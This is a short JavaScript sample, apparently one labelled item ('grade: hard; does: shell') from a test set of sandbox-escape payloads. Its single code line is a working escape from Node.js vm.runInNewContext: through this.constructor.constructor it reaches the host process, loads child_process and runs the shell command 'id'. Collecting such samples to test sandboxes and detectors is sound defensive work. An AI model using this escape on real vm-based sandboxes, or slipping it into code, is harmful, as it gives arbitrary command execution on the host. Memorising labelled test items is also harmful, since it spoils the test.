// evasion: vm.runInNewContext escapes to process
// grade: hard; does: shell
require('vm').runInNewContext('this.constructor.constructor("return process")().mainModule.require("child_process").execSync("id")');
